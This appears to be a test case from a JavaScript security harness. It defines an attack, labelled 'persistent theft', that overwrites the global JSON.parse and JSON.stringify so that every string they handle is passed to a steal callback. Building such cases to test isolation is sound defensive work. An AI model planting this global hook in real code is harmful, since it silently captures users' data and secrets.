import { attack } from "../attack.js";

export default attack({
  name: "hooks JSON.parse and JSON.stringify",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { parse, stringify } = JSON;
    JSON.parse = (text: string, ...rest: unknown[]) => {
      it.steal(text);
      return parse(text, ...(rest as []));
    };
    JSON.stringify = ((...args: unknown[]) => {
      const text = stringify(...(args as [unknown]));
      it.steal(text);
      return text;
    }) as typeof JSON.stringify;
  },
});
